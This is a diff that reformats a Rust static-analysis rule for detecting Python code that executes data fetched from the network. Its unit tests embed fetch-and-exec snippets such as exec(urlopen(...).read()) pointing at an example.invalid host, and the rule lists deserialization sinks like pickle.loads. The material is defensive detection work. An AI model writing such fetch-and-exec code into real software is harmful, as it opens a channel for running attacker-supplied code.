@@ -18,14 +18,18 @@ pub static INFO: RuleInfo = RuleInfo {
            plugin system that deliberately fetches and runs code: that should still be reviewed.",
 };
 
-const SINKS: &[&str] = &["pickle.loads", "marshal.loads", "cPickle.loads", "__import__", "dill.loads"];
+const SINKS: &[&str] = &[
+    "pickle.loads",
+    "marshal.loads",
+    "cPickle.loads",
+    "__import__",
+    "dill.loads",
+];
 
 pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
     let Some(facts) = cx.facts else { return };
     for c in &facts.calls {
-        let sink = c.is_code_exec()
-            || SINKS.contains(&c.name.as_str())
-            || c.is_process();
+        let sink = c.is_code_exec() || SINKS.contains(&c.name.as_str()) || c.is_process();
         if sink && c.arg_taint() & NET != 0 {
             let sev = c.ctx.pick(Severity::Critical, Severity::High);
             out.emit(
@@ -33,7 +37,11 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
                 sev,
                 Confidence::High,
                 c.line,
-                format!("`{}` runs data fetched from the network {}", c.name, c.ctx.label()),
+                format!(
+                    "`{}` runs data fetched from the network {}",
+                    c.name,
+                    c.ctx.label()
+                ),
                 c.note.as_deref(),
             );
         }
@@ -48,18 +56,27 @@ mod tests {
     #[test]
     fn exec_of_urlopen_is_critical_at_import() {
         let src = "import urllib.request\nexec(urllib.request.urlopen('https://x.example.invalid/p').read())\n";
-        assert_eq!(worst("remote-code-execution", "pkg/__init__.py", src), Some(Severity::Critical));
+        assert_eq!(
+            worst("remote-code-execution", "pkg/__init__.py", src),
+            Some(Severity::Critical)
+        );
     }
 
     #[test]
     fn data_flow_through_names() {
         let src = "import requests as r\ndef f():\n    resp = r.get('https://x.example.invalid')\n    code = resp.text\n    exec(code)\n";
-        assert_eq!(worst("remote-code-execution", "pkg/m.py", src), Some(Severity::High));
+        assert_eq!(
+            worst("remote-code-execution", "pkg/m.py", src),
+            Some(Severity::High)
+        );
     }
 
     #[test]
     fn exec_of_local_file_is_fine() {
         let src = "exec(open('version.py').read())\nimport requests\nx = requests.get('https://example.invalid').json()\nprint(eval('1+1'))\n";
-        assert_eq!(worst("remote-code-execution", "pkg-1.0/setup.py", src), None);
+        assert_eq!(
+            worst("remote-code-execution", "pkg-1.0/setup.py", src),
+            None
+        );
     }
 }
